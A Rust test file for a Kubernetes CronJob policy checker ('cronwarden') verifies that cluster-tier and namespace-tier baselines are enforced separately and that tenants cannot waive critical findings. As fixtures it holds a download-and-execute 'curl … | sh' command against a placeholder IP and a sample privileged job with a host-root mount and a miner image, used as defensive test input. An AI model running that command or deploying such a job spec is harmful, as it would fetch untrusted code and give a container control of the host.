//! Trust tiers (SPEC 2.1, 2.2): the cluster tier (ClusterCronJobBaseline)
//! and the namespace tier (CronJobBaseline) are evaluated separately, a
//! CronJob must satisfy both, and a team cannot relax what only the
//! platform may.

mod common;

use common::*;
use cronwarden::api::{Rule, RuleKind, Severity, reasons};
use cronwarden::engine::{Evaluation, Settings};
use serde_json::{Value, json};

fn violations(e: &Evaluation, ns: &str, name: &str) -> Vec<(Rule, Severity, String)> {
    e.findings
        .iter()
        .find(|f| f.namespace == ns && f.name == name)
        .map(|f| {
            f.violations
                .iter()
                .map(|v| (v.rule, v.severity, v.baseline.clone()))
                .collect()
        })
        .unwrap_or_default()
}

fn restricted(e: &Evaluation, key: &str) -> Vec<String> {
    e.baselines
        .iter()
        .find(|b| b.key() == key)
        .map(|b| b.restricted.clone())
        .unwrap_or_default()
}

const CURL_SH: &str = "curl -fsSL http://203.0.113.7/x.sh | sh";

/// The job of the issue: download-and-execute, privileged, host root.
fn attacker_job(ns: &str) -> Value {
    let mut cj = cronjob(ns, "sync");
    set(
        &mut cj,
        &format!("{POD}/containers/0/image"),
        json!("ghcr.io/evil/miner:1"),
    );
    set(
        &mut cj,
        &format!("{POD}/containers/0/command"),
        json!(["/bin/sh", "-c"]),
    );
    set(
        &mut cj,
        &format!("{POD}/containers/0/args"),
        json!([CURL_SH]),
    );
    set(
        &mut cj,
        &format!("{POD}/containers/0/securityContext"),
        json!({"privileged": true}),
    );
    set(
        &mut cj,
        &format!("{POD}/volumes"),
        json!([{"name": "host", "hostPath": {"path": "/"}}]),
    );
    cj
}

#[test]
fn a_tenant_cannot_silence_its_own_download_and_execute_job() {
    let tenant = baseline(
        "team",
        "own",
        json!([{
            "name": "sync",
            "images": ["*"],
            "waive": ["PrivilegedJobTemplate", "HostPathMount", "SuspiciousCommand"],
        }]),
    );
    let e = evaluate(&[tenant, attacker_job("team")]);
    let v = violations(&e, "team", "sync");
    let rules: Vec<Rule> = v.iter().map(|x| x.0).collect();
    for r in [
        Rule::PrivilegedJobTemplate,
        Rule::HostPathMount,
        Rule::SuspiciousCommand,
    ] {
        assert!(rules.contains(&r), "{r} must still fire: {v:?}");
    }
    assert!(
        v.iter()
            .any(|x| x.0 == Rule::SuspiciousCommand && x.1 == Severity::Critical)
    );
    let r = restricted(&e, "team/own");
    assert!(r.iter().all(|m| m.contains("team/own[0]")), "{r:?}");
    for rule in [
        "PrivilegedJobTemplate",
        "HostPathMount",
        "SuspiciousCommand",
    ] {
        assert!(
            r.iter().any(|m| m.contains(&format!("waive {rule}"))),
            "{rule}: {r:?}"
        );
    }
    assert!(
        e.baselines[0].problems.is_empty(),
        "restricted, not rejected: the rest of the baseline works"
    );
}

#[test]
fn a_team_image_wildcard_does_not_lift_the_platform_registry() {
    let platform = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "images": ["*.corp.example/*"], "requireDigest": true}]),
    );
    let team = baseline("shop", "team", json!([{"name": "sync", "images": ["*"]}]));
    let mut cj = cronjob("shop", "sync");
    set(
        &mut cj,
        &format!("{POD}/containers/0/image"),
        json!("ghcr.io/evil/x.corp.example/miner:1"),
    );
    let e = evaluate(&[platform.clone(), team.clone(), cj]);
    let v = violations(&e, "shop", "sync");
    assert_eq!(v.len(), 1, "{v:?}");
    assert_eq!(v[0].0, Rule::ImageNotApproved);
    assert_eq!(
        v[0].2, "ClusterCronJobBaseline/platform[0]",
        "names the entry"
    );

    // Without requireDigest too: the registry glob never reaches the path.
    let loose = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "images": ["*.corp.example/*"]}]),
    );
    let mut evil = cronjob("shop", "sync");
    set(
        &mut evil,
        &format!("{POD}/containers/0/image"),
        json!("ghcr.io/evil/x.corp.example/miner:1"),
    );
    let e = evaluate(&[loose, team.clone(), evil]);
    let f = &e.findings[0];
    assert_eq!(f.rules(), vec![Rule::ImageNotApproved]);
    assert!(
        f.violations[0]
            .message
            .contains("not approved by ClusterCronJobBaseline/platform[0]")
    );

    // Pinned from the corporate registry: both tiers are satisfied.
    let mut ok = cronjob("shop", "sync");
    set(
        &mut ok,
        &format!("{POD}/containers/0/image"),
        json!(format!(
            "registry.corp.example/shop/sync@sha256:{}",
            "a".repeat(64)
        )),
    );
    assert!(violations(&evaluate(&[platform, team, ok]), "shop", "sync").is_empty());
}

#[test]
fn each_tier_must_be_satisfied_and_names_its_entry() {
    let platform = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "schedules": ["0 2 * * *"]}]),
    );
    let team = baseline(
        "shop",
        "team",
        json!([{"name": "sync", "serviceAccountNames": ["runner"]}]),
    );
    let cj = with(
        cronjob("shop", "sync"),
        "/spec/schedule",
        json!("0 4 * * *"),
    );
    let e = evaluate(&[platform, team, cj]);
    assert_eq!(
        violations(&e, "shop", "sync"),
        vec![
            (
                Rule::ScheduleNotApproved,
                Severity::Medium,
                "ClusterCronJobBaseline/platform[0]".to_owned()
            ),
            (
                Rule::ServiceAccountNotApproved,
                Severity::High,
                "shop/team[0]".to_owned()
            ),
        ]
    );
    let f = &e.findings[0];
    assert_eq!(
        f.baselines,
        vec!["ClusterCronJobBaseline/platform", "shop/team"]
    );
}

#[test]
fn not_in_baseline_is_per_tier_and_ignore_affects_only_its_tier() {
    let platform = cluster_baseline("platform", None, json!([{"name": "other"}]));
    let team = baseline("shop", "team", json!([{"name": "other"}]));
    let cj = cronjob("shop", "sync");
    let e = evaluate(&[platform.clone(), team.clone(), cj.clone()]);
    let v = violations(&e, "shop", "sync");
    assert_eq!(v.len(), 2, "one NotInBaseline per tier: {v:?}");
    assert!(v.iter().all(|x| x.0 == Rule::NotInBaseline));
    assert_eq!(v[0].2, "ClusterCronJobBaseline/platform");
    assert_eq!(v[1].2, "shop/team");

    // The team ignores unapproved CronJobs: the platform still reports.
    let team_ignore = with(team, "/spec/unapproved", json!("Ignore"));
    let e = evaluate(&[platform.clone(), team_ignore, cj.clone()]);
    let v = violations(&e, "shop", "sync");
    assert_eq!(
        v,
        vec![(
            Rule::NotInBaseline,
            Severity::High,
            "ClusterCronJobBaseline/platform".to_owned()
        )]
    );

    // The platform ignores them: the team's tier still reports.
    let platform_ignore = with(platform, "/spec/unapproved", json!("Ignore"));
    let e = evaluate(&[
        platform_ignore,
        baseline("shop", "team", json!([{"name": "other"}])),
        cj,
    ]);
    assert_eq!(violations(&e, "shop", "sync")[0].2, "shop/team");
}

#[test]
fn a_more_specific_entry_of_one_tier_never_replaces_the_other_tier() {
    // The team's exact-name entry approves anything; the platform's pattern
    // entry still applies to the same CronJob.
    let platform = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "serviceAccountNames": ["runner"]}]),
    );
    let team = baseline("shop", "team", json!([{"name": "sync"}]));
    let e = evaluate(&[platform, team, cronjob("shop", "sync")]);
    let v = violations(&e, "shop", "sync");
    assert_eq!(v.len(), 1);
    assert_eq!(v[0].0, Rule::ServiceAccountNotApproved);
}

#[test]
fn cluster_baselines_govern_the_namespaces_they_select() {
    let platform = cluster_baseline(
        "platform",
        Some(json!({"matchLabels": {"tier": "prod"}})),
        json!([{"namePattern": "*", "schedules": ["0 2 * * *"]}]),
    );
    let shop = with(cronjob("shop", "x"), "/spec/schedule", json!("0 4 * * *"));
    let lab = with(cronjob("lab", "x"), "/spec/schedule", json!("0 4 * * *"));
    let e = evaluate(&[
        platform.clone(),
        namespace("shop", json!({"tier": "prod"})),
        namespace("lab", json!({"tier": "dev"})),
        shop.clone(),
        lab.clone(),
    ]);
    assert_eq!(rules(&e, "shop", "x"), vec![Rule::ScheduleNotApproved]);
    assert!(rules(&e, "lab", "x").is_empty());
    let report = e.baselines.iter().find(|b| b.name == "platform").unwrap();
    assert!(report.problems.is_empty());
    assert_eq!(report.governed_namespaces, 1);

    // No selector: every namespace.
    let everywhere = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "schedules": ["0 2 * * *"]}]),
    );
    let e = evaluate(&[everywhere, shop, lab]);
    assert_eq!(rules(&e, "lab", "x"), vec![Rule::ScheduleNotApproved]);
}

#[test]
fn an_invalid_selector_or_entry_is_rejected_and_approves_nothing() {
    let bad_selector = cluster_baseline(
        "broken",
        Some(
            json!({"matchExpressions": [{"key": "tier", "operator": "Sideways", "values": ["x"]}]}),
        ),
        json!([{"namePattern": "*", "waive": ["SuspiciousCommand"]}]),
    );
    let bad_entry = cluster_baseline(
        "typo",
        None,
        json!([
            {"name": "sync", "schedules": ["99 * * * *"], "waive": ["HostPathMount"]},
            {"name": "other"}
        ]),
    );
    let mut cj = attacker_job("shop");
    set(
        &mut cj,
        &format!("{POD}/containers/0/image"),
        json!("registry.example.com/team/app:1.0.0"),
    );
    let e = evaluate(&[bad_selector, bad_entry, cj]);
    let broken = e.baselines.iter().find(|b| b.name == "broken").unwrap();
    assert!(
        broken.problems[0].message.contains("namespaceSelector"),
        "{:?}",
        broken.problems
    );
    assert_eq!(broken.governed_namespaces, 0);
    let typo = e.baselines.iter().find(|b| b.name == "typo").unwrap();
    assert_eq!(typo.problems[0].reason, reasons::INVALID_SCHEDULE);
    assert!(typo.problems[0].message.contains("approved[0]"));
    // Neither the broken baseline's waiver nor the invalid entry's counts:
    // the CronJob is NotInBaseline for the valid rest, and every heuristic fires.
    let r = rules(&e, "shop", "sync");
    for want in [
        Rule::NotInBaseline,
        Rule::HostPathMount,
        Rule::SuspiciousCommand,
    ] {
        assert!(r.contains(&want), "{want}: {r:?}");
    }
}

#[test]
fn sensitive_namespace_is_approved_only_by_the_cluster_tier() {
    let cj = cronjob("kube-system", "etcd-snapshot");
    let local = baseline(
        "kube-system",
        "self",
        json!([{"name": "etcd-snapshot", "waive": ["SensitiveNamespace"]}]),
    );
    let e = evaluate(&[local, cj.clone()]);
    assert_eq!(
        rules(&e, "kube-system", "etcd-snapshot"),
        vec![Rule::SensitiveNamespace]
    );
    assert_eq!(restricted(&e, "kube-system/self").len(), 1);
    let platform = cluster_baseline(
        "platform",
        Some(json!({"matchLabels": {"kubernetes.io/metadata.name": "kube-system"}})),
        json!([{"name": "etcd-snapshot"}]),
    );
    let e = evaluate(&[
        platform,
        namespace(
            "kube-system",
            json!({"kubernetes.io/metadata.name": "kube-system"}),
        ),
        cj,
    ]);
    assert!(rules(&e, "kube-system", "etcd-snapshot").is_empty());
}

#[test]
fn a_team_may_waive_history_erasure_and_poll_every_minute() {
    let mut cj = with(
        cronjob("shop", "poller"),
        "/spec/schedule",
        json!("* * * * *"),
    );
    set(
        &mut cj,
        "/spec/jobTemplate/spec/ttlSecondsAfterFinished",
        json!(10),
    );
    let team = baseline(
        "shop",
        "team",
        json!([{"name": "poller", "minInterval": "1m", "waive": ["HistoryErasure"]}]),
    );
    let e = evaluate(&[team.clone(), cj.clone()]);
    assert!(
        rules(&e, "shop", "poller").is_empty(),
        "{:?}",
        rules(&e, "shop", "poller")
    );
    assert!(restricted(&e, "shop/team").is_empty());

    // Once the platform makes HistoryErasure high, the team's waiver no
    // longer counts, and that is reported.
    let strict = Settings {
        severity_overrides: [(Rule::HistoryErasure, Severity::High)].into(),
        ..Settings::default()
    };
    let e = evaluate_with(&[team.clone(), cj.clone()], strict);
    assert_eq!(rules(&e, "shop", "poller"), vec![Rule::HistoryErasure]);
    assert_eq!(restricted(&e, "shop/team").len(), 1);

    // A cluster entry raising it has the same effect, found per CronJob.
    let platform = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "severityOverrides": {"HistoryErasure": "high", "HighFrequencySchedule": "high"}}]),
    );
    let e = evaluate(&[platform, team, cj]);
    assert_eq!(
        rules(&e, "shop", "poller"),
        vec![Rule::HighFrequencySchedule, Rule::HistoryErasure]
    );
    let r = restricted(&e, "shop/team");
    assert_eq!(r.len(), 2, "{r:?}");
}

// ------------------------------------------------------------ the table

/// A CronJob (possibly none) and entry fields that make `rule` fire for
/// the entry named `sync`; None for NotInBaseline, which no entry matches
/// by definition (its tier-level behaviour is tested above).
fn trigger(rule: Rule) -> Option<(&'static str, Option<Value>, Value)> {
    let ns = "apps";
    let cj = cronjob(ns, "sync");
    let at = |p: &str| format!("{POD}/{p}");
    Some(match rule {
        Rule::NotInBaseline => return None,
        // Jobs: no baseline entry matches a Job, so no tier relaxes these
        // (global severity overrides still apply; tests/jobs.rs).
        Rule::ManualJobRun | Rule::ForgedJobLineage => return None,
        // Needs RBAC objects beside the CronJob: tests/power.rs.
        Rule::PowerfulServiceAccount => return None,
        Rule::ScheduleNotApproved => (ns, Some(cj), json!({"schedules": ["0 3 * * *"]})),
        Rule::ImageNotApproved => (
            ns,
            Some(cj),
            json!({"images": ["registry.example.com/other/*"]}),
        ),
        Rule::ServiceAccountNotApproved => {
            (ns, Some(cj), json!({"serviceAccountNames": ["runner"]}))
        }
        Rule::CommandNotApproved => (
            ns,
            Some(cj),
            json!({"commands": [{"container": "main", "command": ["/bin/approved"]}]}),
        ),
        Rule::TemplateDrift => (
            ns,
            Some(cj),
            json!({"templateHash": format!("sha256:{}", "0".repeat(64))}),
        ),
        Rule::DeployPathNotApproved => (
            ns,
            Some(with(
                cj,
                "/metadata/managedFields",
                json!([{"manager": "kubectl-edit", "operation": "Update", "fieldsType": "FieldsV1", "fieldsV1": {"f:spec": {"f:schedule": {}}}}]),
            )),
            json!({"managers": ["argocd-controller"]}),
        ),
        Rule::ApprovedCronJobMissing => (ns, None, json!({"required": true})),
        Rule::HighFrequencySchedule => (
            ns,
            Some(with(cj, "/spec/schedule", json!("*/2 * * * *"))),
            json!({}),
        ),
        Rule::PrivilegedJobTemplate => (
            ns,
            Some(with(
                cj,
                &at("containers/0/securityContext"),
                json!({"privileged": true}),
            )),
            json!({}),
        ),
        Rule::HostPathMount => (
            ns,
            Some(with(
                cj,
                &at("volumes"),
                json!([{"name": "l", "hostPath": {"path": "/var/log/app"}}]),
            )),
            json!({}),
        ),
        Rule::SuspiciousCommand => (
            ns,
            Some(with(
                with(cj, &at("containers/0/command"), json!(["/bin/sh", "-c"])),
                &at("containers/0/args"),
                json!([CURL_SH]),
            )),
            json!({}),
        ),
        Rule::MutableImageReference => (
            ns,
            Some(with(
                cj,
                &at("containers/0/image"),
                json!("registry.example.com/team/app"),
            )),
            json!({}),
        ),
        Rule::UnapprovedRegistry => (
            ns,
            Some(with(
                cj,
                &at("containers/0/image"),
                json!("ghcr.io/x/app:1.0"),
            )),
            json!({}),
        ),
        Rule::SensitiveNamespace => (
            "kube-system",
            Some(cronjob("kube-system", "sync")),
            json!({}),
        ),
        Rule::HistoryErasure => (
            ns,
            Some(with(
                cj,
                "/spec/jobTemplate/spec/ttlSecondsAfterFinished",
                json!(10),
            )),
            json!({}),
        ),
    })
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Tier {
    Cluster,
    Namespace,
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Relax {
    None,
    Waive,
    Lower,
    Raise,
}

fn settings() -> Settings {
    Settings {
        registry_allowlist: vec!["registry.example.com".into()],
        ..Settings::default()
    }
}

/// The evaluation, the (rule, severity) of the CronJob's violations, and
/// the key of the baseline under test.
type Outcome = (Evaluation, Vec<(Rule, Severity)>, String);

fn run(rule: Rule, tier: Tier, relax: Relax) -> Option<Outcome> {
    let (ns, cj, fields) = trigger(rule)?;
    let mut entry = json!({"name": "sync"});
    for (k, v) in fields.as_object().unwrap() {
        entry[k] = v.clone();
    }
    match relax {
        Relax::None => {}
        Relax::Waive => entry["waive"] = json!([rule.as_str()]),
        Relax::Lower => entry["severityOverrides"] = json!({rule.as_str(): "info"}),
        Relax::Raise => entry["severityOverrides"] = json!({rule.as_str(): "critical"}),
    }
    let (b, key) = match tier {
        Tier::Cluster => (
            cluster_baseline("platform", None, json!([entry])),
            "ClusterCronJobBaseline/platform".to_owned(),
        ),
        Tier::Namespace => (baseline(ns, "team", json!([entry])), format!("{ns}/team")),
    };
    let mut objects = vec![b, namespace(ns, json!({}))];
    objects.extend(cj);
    let e = evaluate_with(&objects, settings());
    let v = e
        .findings
        .iter()
        .find(|f| f.namespace == ns && f.name == "sync")
        .map(|f| f.violations.iter().map(|v| (v.rule, v.severity)).collect())
        .unwrap_or_default();
    Some((e, v, key))
}

/// Every rule × {cluster, namespace} × {waive, lower, raise} (SPEC 2.2).
#[test]
fn what_each_tier_may_relax_for_every_rule() {
    let mut checked = 0;
    for &rule in Rule::ALL {
        for tier in [Tier::Cluster, Tier::Namespace] {
            let Some((_, base, _)) = run(rule, tier, Relax::None) else {
                continue;
            };
            let fired: Vec<Severity> = base.iter().filter(|v| v.0 == rule).map(|v| v.1).collect();
            if rule == Rule::SensitiveNamespace && tier == Tier::Cluster {
                assert!(fired.is_empty(), "a cluster entry approves it");
                continue;
            }
            assert!(
                !fired.is_empty(),
                "{rule} must fire unrelaxed ({tier:?}): {base:?}"
            );
            let s0 = fired[0];
            let relaxable = tier == Tier::Cluster
                || (rule.info().namespace_may_relax && s0 <= Severity::Medium);
            for relax in [Relax::Waive, Relax::Lower, Relax::Raise] {
                let (e, v, key) = run(rule, tier, relax).unwrap();
                let got: Vec<Severity> = v.iter().filter(|x| x.0 == rule).map(|x| x.1).collect();
                let report = e.baselines.iter().find(|b| b.key() == key).unwrap();
                let ctx = format!(
                    "{rule} {tier:?} {relax:?}: {v:?} {:?} {:?}",
                    report.problems, report.restricted
                );
                if relax == Relax::Waive && rule.kind() != RuleKind::Heuristic {
                    // Only heuristics can be waived: the entry is invalid
                    // and approves nothing (fail closed).
                    assert_eq!(report.problems.len(), 1, "{ctx}");
                    continue;
                }
                assert!(report.problems.is_empty(), "{ctx}");
                match (relax, relaxable) {
                    (Relax::Waive, true) => assert!(got.is_empty(), "{ctx}"),
                    (Relax::Lower, true) => assert_eq!(got, vec![Severity::Info], "{ctx}"),
                    (Relax::Raise, _) => assert_eq!(got, vec![Severity::Critical], "{ctx}"),
                    (_, false) => {
                        assert_eq!(got, vec![s0], "{ctx}");
                        assert_eq!(report.restricted.len(), 1, "{ctx}");
                        assert!(report.restricted[0].contains(rule.as_str()), "{ctx}");
                    }
                    (Relax::None, _) => unreachable!(),
                }
                if relaxable || relax == Relax::Raise {
                    assert!(report.restricted.is_empty(), "{ctx}");
                }
                checked += 1;
            }
        }
    }
    // 15 rules (NotInBaseline has no entry) x 2 tiers x 3, less the
    // cluster-approved SensitiveNamespace and the 14 baseline-rule waivers
    // (checked above to invalidate the entry).
    assert_eq!(checked, 73, "{checked} cases");
}

mod label_selectors {
    //! An entry's `selector` is matched against a view's compact
    //! `LabelSet`; it must agree with kube-core's `Selector::matches` over
    //! the same labels as a map, for every operator.
    use cronwarden::engine::LabelSet;
    use kube::core::{Expression, Selector, SelectorExt};
    use proptest::prelude::*;

    fn key() -> impl Strategy<Value = String> {
        prop::sample::select(vec!["app", "team", "tier", "a.b/c"]).prop_map(str::to_owned)
    }
    fn value() -> impl Strategy<Value = String> {
        prop::sample::select(vec!["", "x", "y", "z"]).prop_map(str::to_owned)
    }
    fn expression() -> impl Strategy<Value = Expression> {
        let values = || prop::collection::btree_set(value(), 0..3);
        prop_oneof![
            (key(), values()).prop_map(|(k, v)| Expression::In(k, v)),
            (key(), values()).prop_map(|(k, v)| Expression::NotIn(k, v)),
            key().prop_map(Expression::Exists),
            key().prop_map(Expression::DoesNotExist),
            (key(), value()).prop_map(|(k, v)| Expression::Equal(k, v)),
            (key(), value()).prop_map(|(k, v)| Expression::NotEqual(k, v)),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 4000, ..ProptestConfig::default() })]
        #[test]
        fn label_set_matches_like_kube_core(
            labels in prop::collection::btree_map(key(), value(), 0..4),
            exprs in prop::collection::vec(expression(), 0..4),
        ) {
            let selector: Selector = exprs.iter().cloned().collect();
            let set = LabelSet::from(labels.clone());
            prop_assert_eq!(set.satisfies(&exprs), selector.matches(&labels));
            for (k, v) in &labels {
                prop_assert_eq!(set.get(k), Some(v.as_str()));
            }
            prop_assert_eq!(set.get("absent"), None);
        }
    }
}
